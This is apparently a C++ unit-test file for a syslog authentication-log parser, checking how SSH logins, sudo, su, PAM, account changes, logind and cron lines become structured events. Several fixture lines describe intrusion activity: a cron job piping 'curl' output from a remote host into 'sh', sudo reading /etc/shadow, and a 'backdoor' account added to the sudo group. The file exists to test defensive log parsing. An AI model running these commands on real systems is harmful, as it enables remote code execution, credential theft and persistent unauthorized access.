// Sign-in, sudo, su, account and cron messages inside syslog lines.
#include <gtest/gtest.h>

#include "ingest/formats/registry.h"

namespace shodo::ingest {
namespace {

// A syslog parser fed "Jan  2 03:04:05 web1 " + the rest.
struct Auth {
  Auth() {
    parser = FormatRegistry::instance().find("syslog")->make();
    std::string err;
    zone = Zone::locate("UTC", err);
    file.path = "/var/log/auth.log";
    file.mtime_s = 1717200000;  // 2024-06-01
    file.zone = zone.get();
    ctx.file = &file;
    ctx.arena = &arena;
    ctx.zone.set_zone(zone.get());
  }
  // Parses "PROGRAM: MESSAGE" (or "PROGRAM[PID]: MESSAGE") as logged by web1.
  const Event& parse(std::string_view tagged) {
    line = "Jan  2 03:04:05 web1 ";
    line += tagged;
    ev.clear();
    ev.raw = line;
    ev.kind = LogKind::syslog;
    EXPECT_EQ(parser->parse(line, ev, ctx), LineResult::event) << line;
    return ev;
  }
  std::string extra(std::string_view name) const {
    for (const auto& [k, v] : ev.extra)
      if (k == name) return std::string(v);
    return "<none>";
  }
  // The message was not recognized: a plain syslog event.
  void expect_plain(std::string_view tagged) {
    parse(tagged);
    EXPECT_TRUE(ev.action.empty()) << tagged << " gave " << ev.action;
    EXPECT_EQ(ev.kind, LogKind::syslog) << tagged;
    EXPECT_TRUE(ev.user.empty()) << tagged;
  }

  std::unique_ptr<LineParser> parser;
  std::shared_ptr<const Zone> zone;
  FileContext file;
  Arena arena;
  ParseContext ctx;
  std::string line;
  Event ev;
};

TEST(AuthSshd, AcceptedPassword) {
  Auth a;
  const Event& ev =
      a.parse("sshd[4242]: Accepted password for alice from 192.0.2.10 port 51234 ssh2");
  EXPECT_EQ(ev.kind, LogKind::auth);
  EXPECT_EQ(ev.action, "ssh-login");
  EXPECT_EQ(ev.outcome, "success");
  EXPECT_EQ(ev.user, "alice");
  EXPECT_EQ(ev.client_ip, "192.0.2.10");
  EXPECT_EQ(ev.client_port, 51234);
  EXPECT_EQ(ev.process, "sshd");
  EXPECT_EQ(ev.pid, 4242);
  EXPECT_EQ(a.extra("ssh.method"), "password");
  EXPECT_EQ(a.extra("ssh.key"), "<none>");
}

TEST(AuthSshd, AcceptedPublickeyKeepsTheKey) {
  Auth a;
  const Event& ev = a.parse(
      "sshd[1]: Accepted publickey for deploy from 2001:db8::5 port 40000 ssh2: ED25519 "
      "SHA256:AbCdEfGh0123456789");
  EXPECT_EQ(ev.outcome, "success");
  EXPECT_EQ(ev.user, "deploy");
  EXPECT_EQ(ev.client_ip, "2001:db8::5");
  EXPECT_EQ(a.extra("ssh.method"), "publickey");
  EXPECT_EQ(a.extra("ssh.key"), "ED25519 SHA256:AbCdEfGh0123456789");
}

TEST(AuthSshd, AcceptedKeyboardInteractive) {
  Auth a;
  const Event& ev = a.parse(
      "sshd[1]: Accepted keyboard-interactive/pam for bob from 198.51.100.4 port 2222 ssh2");
  EXPECT_EQ(ev.action, "ssh-login");
  EXPECT_EQ(ev.user, "bob");
  EXPECT_EQ(a.extra("ssh.method"), "keyboard-interactive/pam");
}

TEST(AuthSshd, FailedPasswords) {
  Auth a;
  const Event& ev =
      a.parse("sshd[9]: Failed password for invalid user admin from 203.0.113.50 port 41000 ssh2");
  EXPECT_EQ(ev.action, "ssh-login");
  EXPECT_EQ(ev.outcome, "failure");
  EXPECT_EQ(ev.user, "admin");
  EXPECT_EQ(ev.client_ip, "203.0.113.50");
  EXPECT_EQ(a.extra("ssh.invalid_user"), "true");

  a.parse("sshd[9]: Failed password for root from 203.0.113.50 port 41001 ssh2");
  EXPECT_EQ(a.ev.user, "root");
  EXPECT_EQ(a.extra("ssh.invalid_user"), "<none>");

  // The user name is what the client sent, spaces and all.
  a.parse(
      "sshd[9]: Failed none for invalid user a from 1.2.3.4 port 5 from 203.0.113.9 port 6 ssh2");
  EXPECT_EQ(a.ev.user, "a from 1.2.3.4 port 5");
  EXPECT_EQ(a.ev.client_ip, "203.0.113.9");
}

TEST(AuthSshd, FoldedRepeatsAreUnfolded) {
  Auth a;
  const Event& ev = a.parse(
      "sshd[9]: message repeated 3 times: [ Failed password for root from 203.0.113.50 port "
      "41000 ssh2]");
  EXPECT_EQ(ev.action, "ssh-login");
  EXPECT_EQ(ev.outcome, "failure");
  EXPECT_EQ(ev.client_port, 41000);
  EXPECT_EQ(a.extra("syslog.repeated"), "3");
}

TEST(AuthSshd, InvalidUser) {
  Auth a;
  const Event& ev = a.parse("sshd[9]: Invalid user oracle from 203.0.113.51 port 50000");
  EXPECT_EQ(ev.action, "ssh-invalid-user");
  EXPECT_EQ(ev.outcome, "failure");
  EXPECT_EQ(ev.user, "oracle");
  EXPECT_EQ(ev.client_port, 50000);
  a.parse("sshd[9]: Invalid user test from 203.0.113.51");  // before OpenSSH 7.5: no port
  EXPECT_EQ(a.ev.action, "ssh-invalid-user");
  EXPECT_EQ(a.ev.client_port, -1);
  a.parse("sshd[9]: Invalid user  from 203.0.113.51 port 50001");  // an empty name
  EXPECT_EQ(a.ev.action, "ssh-invalid-user");
  EXPECT_TRUE(a.ev.user.empty());
}

TEST(AuthSshd, Disconnects) {
  Auth a;
  a.parse(
      "sshd[9]: Connection closed by authenticating user alice 192.0.2.10 port 51234 [preauth]");
  EXPECT_EQ(a.ev.action, "ssh-disconnect");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_EQ(a.ev.client_ip, "192.0.2.10");
  EXPECT_EQ(a.ev.client_port, 51234);
  EXPECT_TRUE(a.ev.outcome.empty());

  a.parse("sshd[9]: Connection closed by invalid user guest 203.0.113.7 port 1022 [preauth]");
  EXPECT_EQ(a.ev.user, "guest");
  EXPECT_EQ(a.extra("ssh.invalid_user"), "true");

  a.parse("sshd[9]: Connection closed by 203.0.113.7 port 1023 [preauth]");
  EXPECT_EQ(a.ev.action, "ssh-disconnect");
  EXPECT_TRUE(a.ev.user.empty());
  EXPECT_EQ(a.ev.client_ip, "203.0.113.7");

  a.parse("sshd[9]: Disconnected from user alice 192.0.2.10 port 51234");
  EXPECT_EQ(a.ev.action, "ssh-disconnect");
  EXPECT_EQ(a.ev.user, "alice");

  a.parse("sshd[9]: Received disconnect from 192.0.2.10 port 51234:11: disconnected by user");
  EXPECT_EQ(a.ev.action, "ssh-disconnect");
  EXPECT_EQ(a.ev.client_ip, "192.0.2.10");
  EXPECT_EQ(a.ev.client_port, 51234);

  a.parse("sshd[9]: Received disconnect from 192.0.2.10: 11: Bye Bye");
  EXPECT_EQ(a.ev.action, "ssh-disconnect");
  EXPECT_EQ(a.ev.client_ip, "192.0.2.10");
}

TEST(AuthSshd, MaximumAttempts) {
  Auth a;
  a.parse(
      "sshd[9]: error: maximum authentication attempts exceeded for invalid user pi from "
      "203.0.113.8 port 3333 ssh2 [preauth]");
  EXPECT_EQ(a.ev.action, "ssh-max-auth-attempts");
  EXPECT_EQ(a.ev.outcome, "failure");
  EXPECT_EQ(a.ev.user, "pi");
  EXPECT_EQ(a.ev.client_ip, "203.0.113.8");
}

TEST(AuthSshd, PamAuthenticationFailure) {
  Auth a;
  a.parse(
      "sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
      "ruser= rhost=203.0.113.9  user=root");
  EXPECT_EQ(a.ev.kind, LogKind::auth);
  EXPECT_EQ(a.ev.action, "auth-failure");
  EXPECT_EQ(a.ev.outcome, "failure");
  EXPECT_EQ(a.ev.user, "root");
  EXPECT_EQ(a.ev.client_ip, "203.0.113.9");
  EXPECT_EQ(a.extra("pam.service"), "sshd");

  a.parse(
      "sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
      "ruser= rhost=scanner.example.com");
  EXPECT_TRUE(a.ev.user.empty());
  EXPECT_TRUE(a.ev.client_ip.empty());
  EXPECT_EQ(a.extra("pam.rhost"), "scanner.example.com");
}

TEST(AuthSshd, NearMissesStayPlain) {
  Auth a;
  a.expect_plain("sshd[9]: Accepted password for alice from not-an-address port 22 ssh2");
  a.expect_plain("sshd[9]: Server listening on 0.0.0.0 port 22.");
  a.expect_plain("sshd[9]: Failed to start session");
  a.expect_plain("sshd[9]: Connection closed by 203.0.113.7 port notaport");
  a.expect_plain("sshd[9]: pam_unix(sshd:auth): check pass; user unknown");
  a.expect_plain("sshd[9]: Invalid user bob from 999.0.2.1 port 22");
  // The same words from another program mean nothing.
  a.expect_plain("myapp[9]: Accepted password for alice from 192.0.2.10 port 51234 ssh2");
  // OpenSSH 9.8 logs from sshd-session.
  a.parse("sshd-session[9]: Accepted password for alice from 192.0.2.10 port 51234 ssh2");
  EXPECT_EQ(a.ev.action, "ssh-login");
}

TEST(AuthSudo, CommandRun) {
  Auth a;
  a.parse("sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash");
  EXPECT_EQ(a.ev.kind, LogKind::auth);
  EXPECT_EQ(a.ev.action, "sudo");
  EXPECT_EQ(a.ev.outcome, "success");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_EQ(a.ev.target_user, "root");
  EXPECT_EQ(a.ev.command, "/bin/bash");
  EXPECT_EQ(a.extra("sudo.tty"), "pts/0");
  EXPECT_EQ(a.extra("sudo.pwd"), "/home/alice");

  a.parse(
      "sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; ENV=A=b ; "
      "COMMAND=/bin/sh -c id ; uname -a");
  EXPECT_EQ(a.ev.user, "www-data");
  EXPECT_EQ(a.ev.command, "/bin/sh -c id ; uname -a");
}

TEST(AuthSudo, Refusals) {
  Auth a;
  a.parse(
      "sudo: alice : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/alice ; "
      "USER=root ; COMMAND=/usr/bin/id");
  EXPECT_EQ(a.ev.action, "sudo");
  EXPECT_EQ(a.ev.outcome, "failure");
  EXPECT_EQ(a.ev.command, "/usr/bin/id");
  a.parse(
      "sudo: mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; "
      "COMMAND=/bin/cat /etc/shadow");
  EXPECT_EQ(a.ev.outcome, "failure");
  EXPECT_EQ(a.ev.user, "mallory");
  a.parse(
      "sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 "
      "tty=/dev/pts/1 ruser=alice rhost=  user=alice");
  EXPECT_EQ(a.ev.action, "auth-failure");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_TRUE(a.ev.target_user.empty());
  EXPECT_EQ(a.extra("pam.service"), "sudo");
}

TEST(AuthSudo, SessionsAndNearMisses) {
  Auth a;
  a.parse("sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)");
  EXPECT_EQ(a.ev.action, "session-opened");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_EQ(a.ev.target_user, "root");
  a.parse("sudo: pam_unix(sudo:session): session closed for user root");
  EXPECT_EQ(a.ev.action, "session-closed");
  EXPECT_EQ(a.ev.user, "root");
  a.expect_plain("sudo: unable to resolve host web1: Name or service not known");
  a.expect_plain("sudo: alice : no fields here");
}

TEST(AuthSu, SwitchesAndFailures) {
  Auth a;
  a.parse("su[300]: (to root) alice on pts/0");
  EXPECT_EQ(a.ev.action, "su");
  EXPECT_EQ(a.ev.outcome, "success");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_EQ(a.ev.target_user, "root");
  EXPECT_EQ(a.extra("su.tty"), "pts/0");
  a.parse("su[301]: FAILED su for root by alice");
  EXPECT_EQ(a.ev.action, "su");
  EXPECT_EQ(a.ev.outcome, "failure");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_EQ(a.ev.target_user, "root");
  a.parse("su[302]: Successful su for postgres by root");
  EXPECT_EQ(a.ev.outcome, "success");
  EXPECT_EQ(a.ev.target_user, "postgres");
  a.parse("su[300]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)");
  EXPECT_EQ(a.ev.action, "session-opened");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_EQ(a.ev.target_user, "root");
  EXPECT_EQ(a.extra("pam.service"), "su");
  a.parse(
      "su[301]: pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 "
      "tty=/dev/pts/0 ruser=alice rhost=  user=root");
  EXPECT_EQ(a.ev.action, "auth-failure");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_EQ(a.ev.target_user, "root");
  a.expect_plain("su[303]: something FAILED elsewhere by alice");
}

TEST(AuthPam, SessionsFromSshAndCron) {
  Auth a;
  a.parse("sshd[9]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)");
  EXPECT_EQ(a.ev.action, "session-opened");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_TRUE(a.ev.target_user.empty());
  a.parse(
      "login[9]: pam_unix(login:session): session opened for user bob(uid=1001) by LOGIN(uid=0)");
  EXPECT_EQ(a.ev.user, "bob");
  EXPECT_TRUE(a.ev.target_user.empty());
  a.parse("CRON[9]: pam_unix(cron:session): session closed for user root");
  EXPECT_EQ(a.ev.action, "session-closed");
  EXPECT_EQ(a.ev.kind, LogKind::auth);
  EXPECT_EQ(a.extra("pam.service"), "cron");
}

TEST(AuthAccounts, UsersGroupsPasswords) {
  Auth a;
  a.parse(
      "useradd[500]: new user: name=backdoor, UID=1002, GID=1002, home=/home/backdoor, "
      "shell=/bin/bash, from=/dev/pts/1");
  EXPECT_EQ(a.ev.kind, LogKind::auth);
  EXPECT_EQ(a.ev.action, "user-created");
  EXPECT_EQ(a.ev.outcome, "success");
  EXPECT_EQ(a.ev.target_user, "backdoor");
  EXPECT_EQ(a.extra("account.uid"), "1002");
  EXPECT_EQ(a.extra("account.gid"), "1002");
  EXPECT_EQ(a.extra("account.home"), "/home/backdoor");
  EXPECT_EQ(a.extra("account.shell"), "/bin/bash");

  a.parse("useradd[500]: new group: name=backdoor, GID=1002");
  EXPECT_EQ(a.ev.action, "group-created");
  EXPECT_EQ(a.extra("group.name"), "backdoor");
  EXPECT_EQ(a.extra("group.id"), "1002");
  a.parse("groupadd[501]: new group: name=deployers, GID=1003");
  EXPECT_EQ(a.ev.action, "group-created");

  a.parse("usermod[502]: add 'backdoor' to group 'sudo'");
  EXPECT_EQ(a.ev.action, "user-added-to-group");
  EXPECT_EQ(a.ev.target_user, "backdoor");
  EXPECT_EQ(a.extra("group.name"), "sudo");
  a.expect_plain("usermod[502]: add 'backdoor' to shadow group 'sudo'");

  a.parse("usermod[503]: change user 'backdoor' password");
  EXPECT_EQ(a.ev.action, "password-changed");
  EXPECT_EQ(a.ev.target_user, "backdoor");
  a.parse("passwd[504]: pam_unix(passwd:chauthtok): password changed for alice");
  EXPECT_EQ(a.ev.action, "password-changed");
  EXPECT_EQ(a.ev.target_user, "alice");
  EXPECT_EQ(a.extra("pam.service"), "passwd");
  a.parse("chpasswd[505]: pam_unix(chpasswd:chauthtok): password changed for bob");
  EXPECT_EQ(a.ev.target_user, "bob");
  a.parse("passwd[506]: password for 'carol' changed by 'root'");
  EXPECT_EQ(a.ev.action, "password-changed");
  EXPECT_EQ(a.ev.user, "root");
  EXPECT_EQ(a.ev.target_user, "carol");

  a.parse("userdel[507]: delete user 'backdoor'");
  EXPECT_EQ(a.ev.action, "user-deleted");
  EXPECT_EQ(a.ev.target_user, "backdoor");

  a.expect_plain("useradd[500]: new user: UID=1002, GID=1002");
  a.expect_plain("userdel[507]: delete user backdoor");
  a.expect_plain("usermod[508]: change user 'x' shell from '/bin/sh' to '/bin/bash'");
}

TEST(AuthLogind, Sessions) {
  Auth a;
  a.parse("systemd-logind[600]: New session 42 of user alice.");
  EXPECT_EQ(a.ev.action, "session-opened");
  EXPECT_EQ(a.ev.user, "alice");
  EXPECT_EQ(a.extra("session.id"), "42");
  a.parse("systemd-logind[600]: Removed session 42.");
  EXPECT_EQ(a.ev.action, "session-closed");
  EXPECT_EQ(a.extra("session.id"), "42");
  a.expect_plain("systemd-logind[600]: Session 42 logged out. Waiting for processes to exit.");
}

TEST(AuthCron, Commands) {
  Auth a;
  a.parse("CRON[700]: (www-data) CMD (cd /var/www && php artisan schedule:run >> /dev/null 2>&1)");
  EXPECT_EQ(a.ev.kind, LogKind::syslog);
  EXPECT_EQ(a.ev.action, "cron-command");
  EXPECT_EQ(a.ev.user, "www-data");
  EXPECT_EQ(a.ev.command, "cd /var/www && php artisan schedule:run >> /dev/null 2>&1");
  a.parse("crond[701]: (root) CMD (curl -s http://203.0.113.66/x.sh | sh)");
  EXPECT_EQ(a.ev.command, "curl -s http://203.0.113.66/x.sh | sh");
  a.expect_plain("CRON[702]: (root) RELOAD (crontabs/root)");
  a.expect_plain("CRON[703]: (CRON) info (No MTA installed, discarding output)");
}

}  // namespace
}  // namespace shodo::ingest
